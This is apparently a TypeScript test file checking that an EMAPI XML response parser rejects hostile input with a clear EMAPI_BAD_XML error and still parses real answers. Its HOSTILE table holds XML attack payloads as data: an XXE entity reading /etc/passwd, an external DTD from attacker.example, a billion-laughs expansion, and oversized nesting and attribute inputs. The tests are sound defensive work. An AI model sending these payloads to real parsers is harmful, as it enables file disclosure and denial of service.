import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import {
  EmapiError, parseActionResponse, parseDeviceProfileResponse, parseDeviceUserResponse, parseUserDevicesResponse
} from '../src/emapi/index.ts'

// Issue #15.5: hostile answers used to escape the parser as plain Errors (a 500 with no audit id).
const HOSTILE: Record<string, string> = {
  'external entity': '<?xml version="1.0"?><!DOCTYPE response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><response><success/>&xxe;</response>',
  'external entity, no prologue': '<!DOCTYPE response SYSTEM "http://attacker.example/emapi.dtd"><response><success/></response>',
  'internal entity': '<!DOCTYPE response [<!ENTITY x "y">]><response><success/></response>',
  'entity expansion (billion laughs)': '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><response><success/>&b;</response>',
  'lower-case doctype': '<!doctype response [<!ENTITY x "y">]><response><success/></response>',
  '50,000 nested elements': '<response>' + '<a>'.repeat(50_000) + '</a>'.repeat(50_000) + '</response>',
  '50,000 unclosed elements': '<response>' + '<a>'.repeat(50_000),
  '100 nested elements': '<response><success/>' + '<a>'.repeat(100) + '</a>'.repeat(100) + '</response>',
  // 3.5 MB, under the size cap: it held the event loop for seconds while it was parsed.
  '300,000 attributes': '<response><deviceUserResults><device name="SEP001122334455" ' + Array.from({ length: 300_000 }, (_, i) => `a${i}="x"`).join(' ') + '><userID>jdoe</userID></device></deviceUserResults></response>',
  // 4 MB, under the size cap: it held the event loop for five seconds while it was parsed, and a
  // look-up of devices read it as an answer that named none of them.
  'a million empty elements': '<response><deviceUserResults><deviceProfileResults><userDevicesResults>' + '<a/>'.repeat(1_000_000) + '</userDevicesResults></deviceProfileResults></deviceUserResults></response>'
}

const PARSERS: Record<string, (body: string) => unknown> = {
  action: parseActionResponse,
  deviceUser: (body) => parseDeviceUserResponse(body, ['SEP001122334455']),
  userDevices: (body) => parseUserDevicesResponse(body, ['jdoe']),
  deviceProfile: (body) => parseDeviceProfileResponse(body, ['jdoe'])
}

describe('hostile EMAPI answers are bad XML, never another error', () => {
  for (const [name, body] of Object.entries(HOSTILE)) {
    test(name, () => {
      for (const [parserName, parse] of Object.entries(PARSERS)) {
        assert.throws(() => parse(body), (error: unknown) => {
          assert.ok(error instanceof EmapiError, `${parserName}: ${String(error)}`)
          assert.equal(error.code, 'EMAPI_BAD_XML')
          assert.equal(error.responseBody, body, 'the answer is kept for the audit trail')
          assert.ok(error.message.length < 400, `${parserName}: a readable message, not the document (${error.message.length} characters)`)
          return true
        })
      }
    })
  }

  test('the reason names the problem', () => {
    assert.throws(() => parseActionResponse(HOSTILE['external entity'] ?? ''), /DOCTYPE/)
    assert.throws(() => parseActionResponse(HOSTILE['100 nested elements'] ?? ''), /nested more than 32 deep/)
    assert.throws(() => parseActionResponse(HOSTILE['300,000 attributes'] ?? ''), /a tag is longer than 4096 characters/)
    assert.throws(() => parseDeviceUserResponse(HOSTILE['a million empty elements'] ?? '', ['SEP001122334455']), /it holds more than 50,000 tags/)
  })

  test('a user ID or a device name longer than CUCM holds is no answer of CUCM\'s: it goes no further', () => {
    const answer = (name: string, user: string): string => `<response><deviceUserResults><device name="${name}"><userID>${user}</userID></device></deviceUserResults></response>`
    assert.throws(() => parseDeviceUserResponse(answer('SEP001122334455', 'j&amp;'.repeat(100)), ['SEP001122334455']), (error: unknown) => {
      assert.ok(error instanceof EmapiError && error.code === 'EMAPI_BAD_XML')
      assert.match(error.message, /it names a user of 200 characters; CUCM holds at most \d+/)
      return true
    })
    assert.throws(() => parseDeviceUserResponse(answer('SEP' + '0'.repeat(100), 'jdoe'), ['SEP001122334455']), /it names a device of 103 characters/)
    assert.equal(parseDeviceUserResponse(answer('SEP001122334455', 'j'.repeat(128)), ['SEP001122334455'])[0]?.currentUser, 'j'.repeat(128))
    // Characters, as the API and the dashboard count a user ID: 𠮷 (beyond U+FFFF) is one, not two UTF-16 units.
    assert.equal(parseDeviceUserResponse(answer('SEP001122334455', '𠮷田'.repeat(64)), ['SEP001122334455'])[0]?.currentUser, '𠮷田'.repeat(64))
    assert.throws(() => parseDeviceUserResponse(answer('SEP001122334455', '𠮷'.repeat(129)), ['SEP001122334455']), /it names a user of 129 characters/)
  })

  test('real answers are as deep as EMAPI goes and still parse', () => {
    const profiles = parseDeviceProfileResponse('<response><deviceProfileResults><user id="jdoe"><deviceProfile><deviceProfileName>P1</deviceProfileName>' +
      '<isDefaultDeviceProfile>t</isDefaultDeviceProfile></deviceProfile></user></deviceProfileResults></response>', ['jdoe'])
    assert.deepEqual(profiles[0]?.profiles, [{ name: 'P1', isDefault: true }])
    // The largest look-up: 50 users of 100 profiles each.
    const users = Array.from({ length: 50 }, (_, u) => `user${u}`)
    const many = parseDeviceProfileResponse('<response><deviceProfileResults>' + users.map((id) => `<user id="${id}">` + Array.from({ length: 100 }, (_, p) =>
      `<deviceProfile><deviceProfileName>${id}-P${p}</deviceProfileName><isDefaultDeviceProfile>f</isDefaultDeviceProfile></deviceProfile>`).join('') + '</user>').join('') + '</deviceProfileResults></response>', users)
    assert.deepEqual(many.map((user) => user.profiles.length), users.map(() => 100))
    assert.doesNotThrow(() => parseActionResponse('<?xml version="1.0"?>\n<response>\n<success/>\n</response>'))
  })
})
